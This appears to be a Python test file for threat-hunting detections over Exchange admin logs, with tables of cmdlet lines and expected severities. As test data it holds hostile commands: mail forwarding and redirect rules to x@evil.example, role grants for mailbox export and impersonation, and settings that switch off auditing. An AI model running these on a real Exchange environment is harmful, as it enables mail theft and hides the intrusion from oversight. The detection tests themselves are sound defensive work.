"""Forwarding, rules, searches, rights and auditing in Exchange: what is reported, its weight, and what is not."""

from __future__ import annotations

import random
from collections.abc import Mapping

from hunt.hunting import gather
from hunt.registry import queries
from tests.helpers import case
from tests.queries.cmdlets import ALICE, BACKUP, found, ran

# Each cmdlet with the severity of its finding; None: no finding. In one case, a minute apart.
Cases = Mapping[str, str | None]


def check(name: str, cases: Cases) -> None:
    split = [line.partition(" ") for line in cases]
    rows = found(name, *(ran(cmdlet, arguments, 60 * n) for n, (cmdlet, _, arguments) in enumerate(split)))
    told = {row["command_line"]: row["severity"] for row in rows}
    assert len(told) == len(rows)
    assert {line: told.get(line) for line in cases} == cases


# Forwarding and rules.

FORWARDING: Cases = {
    'Set-Mailbox -Identity "bob" -DeliverToMailboxAndForward "False" -ForwardingSmtpAddress "x@evil.example"': "high",
    'Set-Mailbox -Identity "bob" -ForwardingSmtpAddress "x@evil.example"': "high",
    'Set-Mailbox -Identity "bob" -DeliverToMailboxAndForward "True" -ForwardingSmtpAddress "x@evil.example"': "medium",
    'Set-Mailbox -Identity "bob" -ForwardingSmtpAddress "carol@contoso.example"': "medium",
    'Set-Mailbox -Identity "bob@fabrikam.example" -ForwardingSmtpAddress "carol@fabrikam.example"': "medium",
    'Set-Mailbox -Identity "bob" -ForwardingAddress "contoso.example/Users/carol"': "medium",
    'Set-Mailbox -Identity "bob" -ForwardingSmtpAddress $null -ForwardingAddress $null': None,
    'Set-Mailbox -Identity "bob" -DeliverToMailboxAndForward "False"': None,
    'Set-Mailbox -Identity "bob" -ProhibitSendQuota "2 GB"': None,
    'Get-Mailbox -Identity "bob" -ForwardingSmtpAddress "x@evil.example"': None,
    'New-InboxRule -Mailbox "bob" -Name "a" -ForwardTo ("x@evil.example","y@evil.example")': "medium",
    'New-InboxRule -Mailbox "bob" -Name "b" -RedirectTo ("x@evil.example")': "high",
    r'Set-InboxRule -Identity "bob\b" -ForwardAsAttachmentTo ("x@evil.example")': "medium",
    'New-InboxRule -Mailbox "bob" -Name "." -SubjectContainsWords ("invoice") -MoveToFolder "bob:\\RSS Feeds"': "high",
    'New-InboxRule -Mailbox "bob" -Name "spam" -From ("it@contoso.example") -DeleteMessage "True"': "medium",
    'New-InboxRule -Mailbox "bob" -Name "news" -From ("news@contoso.example") -MoveToFolder "bob:\\News"': None,
    'New-InboxRule -Mailbox "bob" -Name "keep" -From ("x@contoso.example") -DeleteMessage "False"': None,
    'New-TransportRule -Name "t" -BlindCopyTo ("x@evil.example")': "medium",
    'New-TransportRule -Name "t2" -RedirectMessageTo ("x@evil.example")': "high",
    'New-TransportRule -Name "t3" -PrependSubject "[EXT]"': None,
    'New-JournalRule -Name "j" -JournalEmailAddress "x@evil.example" -Scope "Global"': "medium",
    'Set-RemoteDomain -Identity "Default" -AutoForwardEnabled "True"': "low",
    'Set-RemoteDomain -Identity "Default" -AutoForwardEnabled "False"': None,
}  # fmt: skip


def test_what_passes_mail_on_or_hides_it_is_reported() -> None:
    check("exchange-forwarding", FORWARDING)


def test_a_forwarding_names_mailbox_address_caller_and_technique() -> None:
    hides = ran(
        "New-InboxRule", '-Mailbox "bob" -Name "." -MoveToFolder "bob:\\Archive" -ForwardTo ("x@evil.example")', 9
    )
    rows = found(
        "exchange-forwarding", ran("Set-Mailbox", '-Identity "bob" -ForwardingSmtpAddress "x@evil.example"'), hides
    )
    assert [(row["actor"], row["object"], row["action"]) for row in rows] == [
        (ALICE, "bob", "Set-Mailbox"),
        (ALICE, "bob", "New-InboxRule"),
    ]
    assert [row["techniques"] for row in rows] == [["T1114.003"], ["T1114.003", "T1564.008"]]
    assert rows[0]["reason"].startswith("mail of bob is passed on to x@evil.example; to an address outside")


def test_a_parameter_inside_a_text_hides_no_real_one() -> None:
    text = '-Identity "bob" -Office "a" -ForwardingSmtpAddress $null -b "" -ForwardingSmtpAddress "x@evil.example"'
    (row,) = found("exchange-forwarding", ran("Set-Mailbox", text))
    assert row["reason"].startswith("mail of bob is passed on to x@evil.example")


def test_failed_forwarding_is_an_attempt() -> None:
    failed = ran("Set-Mailbox", '-Identity "bob" -ForwardingSmtpAddress "x@evil.example"', outcome=6, error="Denied")
    (row,) = found("exchange-forwarding", failed)
    assert row["severity"] == "medium"
    assert row["reason"].endswith("an attempt: it failed: Denied")


# Searches.

SEARCHES: Cases = {
    'Search-Mailbox -Identity "bob" -TargetMailbox "collect" -TargetFolder "x" -SearchQuery "invoice"': "medium",
    'Search-Mailbox -Identity "bob" -TargetMailbox "alice@contoso.example" -TargetFolder "x"': "high",
    'Search-Mailbox -Identity "bob" -SearchQuery "subject:phish" -DeleteContent "True" -Force "True"': "medium",
    'Search-Mailbox -Identity "bob" -EstimateResultOnly "True" -SearchQuery "x"': "low",
    'Search-Mailbox -Identity "bob" -TargetMailbox "collect" -TargetFolder "x" -LogOnly "True"': "low",
    'Search-Mailbox -Identity "bob" -EstimateResultOnly "True" -SearchQuery "Passwort OR password"': "high",
    'New-ComplianceSearch -Name "s" -ExchangeLocation ("All") -ContentMatchQuery "from:x@evil.example"': "low",
    'New-ComplianceSearchAction -SearchName "s" -Export "True"': "medium",
    'New-ComplianceSearchAction -SearchName "s" -Purge "True" -PurgeType "SoftDelete"': "medium",
    'New-ComplianceSearchAction -SearchName "s" -Preview "True"': "low",
    'New-MailboxSearch -Name "m" -SourceMailboxes ("bob","carol") -TargetMailbox "collect"': "medium",
    'New-MailboxRestoreRequest -SourceStoreMailbox "bob" -SourceDatabase "DB1" -TargetMailbox "carol"': "medium",
    'Start-ComplianceSearch -Identity "s"': None,
    'Get-ComplianceSearch -Identity "s"': None,
    'Get-MailboxStatistics -Identity "bob"': None,
    'Set-CASMailbox -Identity "bob" -OWAEnabled "True"': None,
}


def test_searches_copies_exports_and_purges_are_reported() -> None:
    check("exchange-mail-search", SEARCHES)


def test_a_purge_alone_clears_and_collects_nothing() -> None:
    both = '-Identity "bob" -TargetMailbox "c" -TargetFolder "x" -DeleteContent "True"'
    purge = ran("Search-Mailbox", '-Identity "bob" -DeleteContent "True"')
    rows = found("exchange-mail-search", purge, ran("Search-Mailbox", both, 9))
    assert [row["techniques"] for row in rows] == [["T1070.008"], ["T1114.002", "T1070.008"]]


# Roles.

ROLES: Cases = {
    'New-ManagementRoleAssignment -Role "Mailbox Import Export" -User "carol"': "medium",
    'New-ManagementRoleAssignment -Role "ApplicationImpersonation" -User "svc-mail" -Name "imp"': "medium",
    'New-ManagementRoleAssignment -Role "Mailbox Import Export" -User "CONTOSO\\alice"': "high",
    'New-ManagementRoleAssignment -Role "Mail Recipients" -User "carol"': None,
    'New-ManagementRoleAssignment -Role "View-Only Configuration" -SecurityGroup "Helpdesk"': None,
    'Add-RoleGroupMember -Identity "Discovery Management" -Member "carol"': "medium",
    'Add-RoleGroupMember -Identity "Help Desk" -Member "carol"': None,
    'New-RoleGroup -Name "Exporters" -Roles ("Mailbox Import Export","Mail Recipients") -Members ("dave")': "medium",
    'Add-RoleGroupMember -Identity "Exporters" -Member "erin"': "medium",
    'New-ManagementRole -Name "Harmless Name" -Parent "Mailbox Import Export"': "low",
    'New-ManagementRole -Name "Still Harmless" -Parent "Harmless Name"': "low",
    'New-ManagementRoleAssignment -Role "Still Harmless" -User "frank"': "medium",
    'New-ManagementRole -Name "Recipients Lite" -Parent "Mail Recipients"': None,
    'New-ManagementRoleAssignment -Role "Recipients Lite" -User "frank"': None,
    'Set-ManagementRoleAssignment -Identity "Mailbox Import Export-dave" -Enabled "True"': "medium",
    'Set-ManagementRoleAssignment -Identity "Mailbox Import Export-dave" -Enabled "False"': None,
    'Get-ManagementRoleAssignment -Role "ApplicationImpersonation"': None,
    'Remove-ManagementRoleAssignment -Identity "Mail Recipients-carol"': None,
}


def test_rights_on_mail_are_reported_by_whatever_name_they_go() -> None:
    check("exchange-mail-role", ROLES)


def test_a_role_that_is_taken_away_again_by_the_same_caller_is_high() -> None:
    give = ran("New-ManagementRoleAssignment", '-Role "ApplicationImpersonation" -User "carol"')
    named = ran("New-ManagementRoleAssignment", '-Role "Mailbox Import Export" -User "carol" -Name "zz"', 1, by=BACKUP)
    member = ran("Add-RoleGroupMember", '-Identity "Discovery Management" -Member "dave"', 2)
    rows = found(
        "exchange-mail-role", give, named, member,
        ran("Remove-ManagementRoleAssignment", '-Identity "ApplicationImpersonation-carol" -Confirm "False"', 100),
        ran("Remove-ManagementRoleAssignment", '-Identity "zz" -Confirm "False"', 101, by=BACKUP),
        ran("Remove-RoleGroupMember", '-Identity "Discovery Management" -Member "CONTOSO\\dave"', 102),
    )  # fmt: skip
    assert [(row["severity"], row["span_seconds"], row["events"]) for row in rows] == [("high", 100.0, 2)] * 3
    others = found(
        "exchange-mail-role", give, named, member,
        ran("Remove-ManagementRoleAssignment", '-Identity "ApplicationImpersonation-carol"', 100, by=BACKUP),
        ran("Remove-ManagementRoleAssignment", '-Identity "zz"', 101 + 86_400, by=BACKUP),
        ran("Remove-RoleGroupMember", '-Identity "Discovery Management" -Member "erin"', 102),
    )  # fmt: skip
    assert [(row["severity"], row["span_seconds"], row["events"]) for row in others] == [("medium", None, 1)] * 3


# Access to mailboxes and folders.

ACCESS: Cases = {
    'Add-MailboxPermission -Identity "bob" -User "carol" -AccessRights ("FullAccess")': "low",
    'Add-MailboxPermission -Identity "bob" -User "dave" -AccessRights ("FullAccess") -AutoMapping "False"': "medium",
    'Add-MailboxPermission -Identity "bob" -User "CONTOSO\\alice" -AccessRights ("FullAccess")': "high",
    'Add-MailboxPermission -Identity "bob" -User "Everyone" -AccessRights ("FullAccess")': "medium",
    'Add-MailboxPermission -Identity "bob" -User "erin" -AccessRights ("FullAccess") -Deny "True"': None,
    'Add-MailboxPermission -Identity "bob" -Owner "erin"': "medium",
    'Remove-MailboxPermission -Identity "bob" -User "erin" -AccessRights ("FullAccess")': None,
    'Add-MailboxFolderPermission -Identity "bob:\\Inbox" -User "erin" -AccessRights ("Reviewer")': "low",
    'Set-MailboxFolderPermission -Identity "bob:\\" -User "Default" -AccessRights ("Reviewer")': "medium",
    'Add-MailboxFolderPermission -Identity "bob:\\Calendar" -User "erin" -AccessRights ("Reviewer")': None,
    'Set-MailboxFolderPermission -Identity "bob:\\Inbox" -User "Default" -AccessRights ("AvailabilityOnly")': None,
    'Add-RecipientPermission -Identity "bob" -Trustee "erin" -AccessRights ("SendAs")': "low",
    'Add-ADPermission -Identity "DB01" -User "erin" -ExtendedRights ("Receive-As")': "high",
    'Add-ADPermission -Identity "bob" -User "erin" -ExtendedRights ("User-Change-Password")': None,
    'Set-Mailbox -Identity "bob" -GrantSendOnBehalfTo ("erin")': "low",
    'Set-Mailbox -Identity "bob" -GrantSendOnBehalfTo @{remove=("erin")}': None,
    'Set-Mailbox -Identity "bob" -GrantSendOnBehalfTo @{add=("erin")}': "low",
    'Get-MailboxPermission -Identity "bob"': None,
}  # fmt: skip


def test_access_that_is_given_is_reported() -> None:
    check("exchange-mailbox-access", ACCESS)


def test_one_user_in_many_mailboxes_is_told_of_each() -> None:
    rights = '-User "carol" -AccessRights ("FullAccess")'
    rows = [ran("Add-MailboxPermission", f'-Identity "u{n}" {rights}', n) for n in range(5)]
    assert {row["severity"] for row in found("exchange-mailbox-access", *rows)} == {"medium"}
    assert {row["severity"] for row in found("exchange-mailbox-access", *rows[:4], rows[0])} == {"low"}


# Auditing.

AUDIT: Cases = {
    'Set-AdminAuditLogConfig -AdminAuditLogEnabled "False"': "high",
    'Set-AdminAuditLogConfig -AdminAuditLogEnabled "True"': None,
    'Set-AdminAuditLogConfig -AdminAuditLogCmdlets ("New-Mailbox")': "medium",
    'Set-AdminAuditLogConfig -AdminAuditLogCmdlets ("*")': None,
    'Set-AdminAuditLogConfig -AdminAuditLogExcludedCmdlets ("*-MailboxExportRequest")': "medium",
    'Set-AdminAuditLogConfig -AdminAuditLogAgeLimit "00:00:00"': "medium",
    'Set-AdminAuditLogConfig -AdminAuditLogAgeLimit "90.00:00:00"': None,
    'Set-MailboxAuditBypassAssociation -Identity "svc" -AuditBypassEnabled "True"': "high",
    'Set-MailboxAuditBypassAssociation -Identity "svc" -AuditBypassEnabled "False"': None,
    'Set-OrganizationConfig -AuditDisabled "True"': "high",
    'Set-Mailbox -Identity "bob" -AuditEnabled "False"': "medium",
    'Set-Mailbox -Identity "alice" -AuditEnabled "False"': "high",
    'Set-Mailbox -Identity "bob" -AuditEnabled "True"': None,
    'Set-Mailbox -Identity "bob" -AuditDelegate ("None")': "medium",
    'Set-Mailbox -Identity "bob" -AuditOwner $null': "medium",
    'Set-Mailbox -Identity "bob" -AuditAdmin @{remove="MessageBind"}': "medium",
    'Set-Mailbox -Identity "bob" -AuditDelegate ("SendAs","MailItemsAccessed")': None,
    'Set-Mailbox -Identity "bob" -AuditLogAgeLimit "1.00:00:00"': "medium",
    r'Set-EventLogLevel -Identity "SRV-EX01\MSExchange CmdletLogs" -Level "Lowest"': "low",
    "Get-AdminAuditLogConfig": None,
}


def test_auditing_that_is_switched_off_or_narrowed_is_reported() -> None:
    check("exchange-audit-off", AUDIT)


def test_the_parameters_of_exchange_2010_are_read_as_well() -> None:
    (row,) = found("exchange-audit-off", ran("Set-Mailbox", "{Identity=bob, AuditEnabled=False}"))
    assert (row["object"], row["severity"]) == ("bob", "medium")


# Hostile evidence.

_VALUES = (
    '""', "$null", "()", '("a","b")', r'"\\127.0.0.1\c$\x.aspx"', '"%{}|*[("', '"ApplicationImpersonation"', '"False"',
    '"Mailbox Import Export"', '"x@y.example"', '"\\"', r'"a\MailboxExport"', '@{add="q"}', f'"{"A" * 5000}"',
    '"\x1b[31m"',
)  # fmt: skip
_PARAMETERS = """
    Identity Mailbox FilePath Name Role User Confirm ForwardingSmtpAddress AccessRights AuditEnabled Member ForwardTo
    Parent TargetMailbox DeleteContent ExtendedRights ContentFilter CompletedRequestAgeLimit
    """


def test_whatever_an_event_holds_no_hunt_fails_and_the_order_changes_nothing() -> None:
    draw = random.Random(7)
    hunts = [query.hunt for query in queries() if query.hunt.id.startswith("exchange-")]
    names = sorted({line.partition(" ")[0] for cases in (FORWARDING, SEARCHES, ROLES, ACCESS, AUDIT) for line in cases})
    rows = []
    for _ in range(70):
        said = " ".join(f"-{draw.choice(_PARAMETERS.split())} {draw.choice(_VALUES)}" for _ in range(draw.randrange(6)))
        caller = draw.choice((ALICE, BACKUP, "", "S-1-5-18"))
        row = ran(
            draw.choice([*names, "", *EXPORTS]), said, draw.randrange(10**5), by=caller, outcome=draw.randint(1, 8)
        )
        row |= draw.choice([{}, {}, {}, {"host": None}, {"logged": None}, {"Data": None}, {"Data": row["Data"][:3]}])
        rows.append(row)
    found_, again = (gather(case(*met), hunts)[0] for met in (rows, rows[::-1]))
    assert found_.height > 5
    assert found_.equals(again)


EXPORTS = ("New-MailboxExportRequest", "Remove-MailboxExportRequest", "Export-Mailbox")
